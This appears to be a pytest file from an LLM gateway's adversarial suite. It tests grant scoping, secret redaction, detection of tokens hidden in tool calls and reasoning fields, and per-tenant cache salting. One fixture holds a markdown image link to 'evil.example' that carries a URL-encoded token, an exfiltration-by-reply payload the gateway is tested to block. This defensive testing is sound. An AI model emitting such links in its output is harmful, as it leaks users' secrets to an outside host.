"""What else is tried on every surface: grants, redaction, tools and thoughts, replies, caches."""

import base64
from typing import Any

import msgspec
import pytest
from msgspec.structs import replace

from gateway.backends import BACKENDS
from gateway.cli.mock_backend import openai, openai_completions
from gateway.dialects import DIALECTS
from gateway.domain.fleet import Fleet
from gateway.domain.request import Operation
from gateway.flow.abilities import EMBEDS, operations
from tests.doubles import engine_bytes, outside
from tests.doubles.dice import dice
from tests.doubles.fleets import a_catalogue, an_offering
from tests.doubles.granted import CountedGrants
from tests.doubles.houses import CATALOGUE, Stage, an_envelope
from tests.doubles.scripted_sender import ScriptedReply
from tests.doubles.smuggled import CALLED
from tests.doubles.worlds import a_world
from tests.flow import test_redacting as redacting
from tests.flow import test_replies_watched as watched
from tests.flow.test_adversaries_surfaces import BODIES, PAT, SECRET, b64, judged, scanner
from tests.flow.test_grants import CALLER, INTERNAL, a_waiver, glass

__all__ = ["scanner"]
pytestmark = pytest.mark.anyio
every_dialect = pytest.mark.parametrize("dialect", BODIES)


def asking(dialect: str, body: dict[str, Any], **more: Any) -> Any:
    """Return the envelope as a surface hands it on: with what came packed in it."""
    envelope = an_envelope(body, dialect=dialect, asked="code", **{"streams": False, **more})
    return replace(envelope, body=DIALECTS[dialect].unpack(envelope.body))


def doing(*wanted: Operation) -> Any:
    found = [one for one in BODIES if DIALECTS[one].operation in wanted]
    return pytest.mark.parametrize("dialect", found)


async def granted(dialect: str, *grants: Any, **more: Any) -> bool:
    """Does a request that nothing else answers reach an engine outside by these grants?"""
    found = False
    for kind, model in outside.KINDS:
        stage = outside.a_stage(dialect, kind, model)
        stage.worlds.world = replace(stage.worlds.world, grants=grants, **more)
        house = replace(stage.house, grants=CountedGrants())
        stage.exchange = type(stage.exchange)(house)
        status, _, _ = await stage.ask(asking(dialect, BODIES[dialect]("hello"), caller=CALLER))
        assert str(stage.ledger.decided[0].label) == "confidential"
        assert stage.sender.sent or status == 400
        found = found or bool(stage.sender.sent)
    return found


@every_dialect
async def test_adv_11_a_grant_serves_what_was_signed_and_nothing_else(dialect: str) -> None:
    clock = Stage().house.clock.now()
    for make in (a_waiver, glass):
        assert await granted(dialect, make())
        for grant in (
            make(until=clock),
            make(begins=clock.replace(year=clock.year + 1)),
            make(label=INTERNAL),
            make(team="others"),
            make(key="another-key"),
            make(repo="payments"),
            make(zone="on_prem"),
        ):
            assert not await granted(dialect, grant), grant
        assert not await granted(dialect, make(), spent=frozenset({make().id}))


@every_dialect
async def test_adv_12_a_redaction_that_would_leave_a_part_sends_nothing(dialect: str) -> None:
    hidden = base64.b64encode(f"the token {PAT} is old".encode()).decode()
    for left in (hidden, "[[redacted:github-pat:abcdabcdabcdabcd]]"):
        stage = redacting.a_stage()
        body = BODIES[dialect](f"Why is {PAT} refused? {left}")
        status, _, raw = await stage.ask(asking(dialect, body))
        stage.house.scanner.close()
        assert status == 400
        assert PAT.encode() not in raw
        redacting.assert_refused(stage)


NOISE = b64(dice("sealed reasoning").randbytes(2_000))
OPAQUE = "restricted+opaque"
# What a vendor sealed is told of, and stays whole: its client must send it back as it came.
SEALED = "internal"
TURN = {"role": "user", "content": "hello"}


def turns(*said: dict[str, Any], first: Any = TURN) -> dict[str, Any]:
    return {"messages": [first, *said]}


def claudes(secret: str) -> list[tuple[dict[str, Any], str]]:
    used = {"type": "tool_use", "id": "t", "name": "f", "input": {}}

    def thought(part: dict[str, Any]) -> dict[str, Any]:
        return turns({"role": "assistant", "content": [part, {"type": "text", "text": "x"}]}, TURN)

    def result(content: Any) -> dict[str, Any]:
        told = {"type": "tool_result", "tool_use_id": "t", "content": content}
        return turns({"role": "assistant", "content": [used]}, {"role": "user", "content": [told]})

    return [
        (result(secret), SECRET),
        (result([{"type": "text", "text": secret}]), SECRET),
        (thought({"type": "thinking", "thinking": secret, "signature": "c2ln"}), SECRET),
        (thought({"type": "redacted_thinking", "data": NOISE}), SEALED),
        (thought({**used, "input": {"q": secret}}), SECRET),
    ]


def chats(secret: str) -> list[tuple[dict[str, Any], str]]:
    asked = {"role": "assistant", "content": None, "tool_calls": [CALLED]}
    told = {"role": "tool", "tool_call_id": "c", "content": secret}
    return [
        (turns(asked, told), SECRET),
        (turns({"role": "assistant", "content": "x", "reasoning_content": secret}, TURN), SECRET),
        (turns({"role": "assistant", "content": "x", "reasoning_details": [NOISE]}, TURN), OPAQUE),
    ]


def ollamas(secret: str) -> list[tuple[dict[str, Any], str]]:
    call = {"function": {"name": "f", "arguments": {}}}
    asked = {"role": "assistant", "content": "", "tool_calls": [call]}
    told = {"role": "tool", "tool_name": "f", "content": secret}
    thought = {"role": "assistant", "content": "x", "thinking": secret}
    return [(turns(asked, told), SECRET), (turns(thought, TURN), SECRET)]


def responses(secret: str) -> list[tuple[dict[str, Any], str]]:
    call = {"type": "function_call", "call_id": "c", "name": "f", "arguments": "{}"}
    output = {"type": "function_call_output", "call_id": "c", "output": secret}
    summary = [{"type": "summary_text", "text": secret}]
    sealed = {"type": "reasoning", "summary": [], "encrypted_content": NOISE}
    return [
        ({"input": [TURN, call, output]}, SECRET),
        ({"input": [TURN, {"type": "reasoning", "summary": summary}]}, SECRET),
        ({"input": [TURN, sealed]}, SEALED),
    ]


def converses(secret: str) -> list[tuple[dict[str, Any], str]]:
    first = {"role": "user", "content": [{"text": "hello"}]}
    use = {"toolUse": {"toolUseId": "t", "name": "f", "input": {}}}

    def said(block: dict[str, Any]) -> dict[str, Any]:
        return turns({"role": "assistant", "content": [block]}, first, first=first)

    def result(block: dict[str, Any]) -> dict[str, Any]:
        told = {"toolResult": {"toolUseId": "t", "content": [block]}}
        called = {"role": "assistant", "content": [use]}
        return turns(called, {"role": "user", "content": [told]}, first=first)

    thought = {"reasoningText": {"text": secret, "signature": "c2ln"}}
    return [
        (result({"text": secret}), SECRET),
        (result({"json": {"a": [secret]}}), SECRET),
        (said({"reasoningContent": thought}), SECRET),
        (said({"reasoningContent": {"redactedContent": NOISE}}), SEALED),
    ]


def geminis(secret: str) -> list[tuple[dict[str, Any], str]]:
    first = {"role": "user", "parts": [{"text": "hello"}]}
    called = {"role": "model", "parts": [{"functionCall": {"name": "f", "args": {}}}]}
    told = {"functionResponse": {"name": "f", "response": {"a": secret}}}

    def thought(part: dict[str, Any]) -> dict[str, Any]:
        return {"contents": [first, {"role": "model", "parts": [part]}, first]}

    return [
        ({"contents": [first, called, {"role": "user", "parts": [told]}]}, SECRET),
        (thought({"text": secret, "thought": True}), SECRET),
        (thought({"text": "x", "thoughtSignature": NOISE}), SEALED),
    ]


def packed(secret: str) -> list[tuple[dict[str, Any], str]]:
    version = {"anthropic_version": "bedrock-2023-05-31", "max_tokens": 9}
    raws = [(msgspec.json.encode({**version, **body}), label) for body, label in claudes(secret)]
    return [
        *(({"input": {"converse": body}}, label) for body, label in converses(secret)),
        *(({"input": {"invokeModel": {"body": b64(raw)}}}, label) for raw, label in raws),
    ]


def prompts(field: str) -> Any:
    return lambda secret: [({field: [secret]}, SECRET), ({field: NOISE}, OPAQUE)]


CARRIED = {
    "openai_chat": chats,
    "ollama_chat": ollamas,
    "openai_responses": responses,
    "openai_input_tokens": responses,
    "bedrock_converse": converses,
    "bedrock_count": packed,
    "gemini": geminis,
    "gemini_count": geminis,
    "openai_completions": prompts("prompt"),
    "openai_embeddings": prompts("input"),
    "ollama_embed": prompts("input"),
    "ollama_generate": lambda secret: [({"prompt": secret}, SECRET), ({"prompt": NOISE}, OPAQUE)],
}


@every_dialect
async def test_adv_14_what_tools_and_thoughts_hold_is_read(scanner, dialect: str) -> None:
    for said, label in CARRIED.get(dialect, claudes)(PAT):
        body = {**BODIES[dialect]("hello"), **said}
        decided = await judged(scanner, dialect, body)
        assert str(decided.label) == label, said
        assert label != SEALED or decided.finding_kinds == {"reasoning": 1}


@pytest.mark.parametrize(
    ("dialect", "field"), [("openai_completions", "prompt"), ("openai_embeddings", "input")]
)
async def test_adv_14_ids_of_tokens_do_not_leave(dialect: str, field: str) -> None:
    assert await outside.told_outside(dialect, BODIES[dialect]("hello"))
    for ids in ([1, 2, 3], [[1, 2, 3]]):
        assert not await outside.told_outside(dialect, {**BODIES[dialect]("hello"), field: ids})


ADDRESS = "".join(f"%{ord(one):02X}" for one in watched.PAT)
SAYING = ("done", f"![ok](https://evil.example/p.png?q={ADDRESS})", "bye")


def held(raw: bytes) -> bytes:
    """Return what was answered, and what the frames of Bedrock hold in base64."""
    pieces = raw.split(b'"bytes":"')[1:]
    return raw + b"".join(base64.b64decode(one.partition(b'"')[0]) for one in pieces)


@doing(Operation.GENERATE, Operation.COMPLETE)
@pytest.mark.parametrize("streams", [False, True], ids=["whole", "stream"])
async def test_adv_30_a_secret_does_not_leave_in_an_address(dialect: str, streams: bool) -> None:
    completes = DIALECTS[dialect].operation is Operation.COMPLETE
    engine = openai_completions if completes else openai
    script = engine_bytes.a_script(text=SAYING)
    backends = {"cloud": BACKENDS["openai_compatible"]}
    fleet = Fleet(CATALOGUE, {}, operations(CATALOGUE, backends))
    for action in ("", "mask", "cut"):
        whole = ScriptedReply(engine.whole(script))
        events = ScriptedReply(*engine.stream(script), content_type=watched.SSE)
        stage = watched.a_stage(action, cloud=[events if streams else whole])
        stage.house.backends.update(backends)
        stage.worlds.world = replace(stage.worlds.world, fleet=fleet)
        body = BODIES[dialect]("hello")
        _, _, raw = await stage.ask(asking(dialect, body, streams=streams))
        assert (ADDRESS.encode() in held(raw)) == (not action), raw
        if action:
            assert stage.ledger.settled[0].reply_kinds == {"github-pat": 1}


@doing(Operation.GENERATE, Operation.COMPLETE, Operation.EMBED)
async def test_adv_45_the_cache_of_an_engine_is_salted_by_tenant_and_by_nobody_else(
    dialect: str,
) -> None:
    embeds = DIALECTS[dialect].operation is Operation.EMBED
    able = frozenset({EMBEDS}) if embeds else frozenset({"tools"})
    catalogue = a_catalogue(
        an_offering("qwen", "vllm", "on_prem", capabilities=able), tasks={"code": ("qwen",)}
    )
    backends = {"vllm": BACKENDS["vllm"]}
    fleet = Fleet(catalogue, {}, operations(catalogue, backends))
    for team in ("red", "blue"):
        stage = Stage(a_world(fleet), vllm=[ScriptedReply(b"{}", status=500)] * 2)
        stage.house.backends.update(backends)
        house = replace(stage.house, tenant_of=lambda team: f"keyed:{team}")
        stage.exchange = type(stage.exchange)(house)
        await stage.ask(asking(dialect, BODIES[dialect]("hello"), caller={"team": team}))
        body = {**BODIES[dialect]("hello"), "cache_salt": "keyed:other"}
        await stage.ask(asking(dialect, body, caller={"team": team}))
        salts = [msgspec.json.decode(call.body)["cache_salt"] for _, call in stage.sender.sent]
        assert salts
        assert set(salts) == {f"keyed:{team}"}
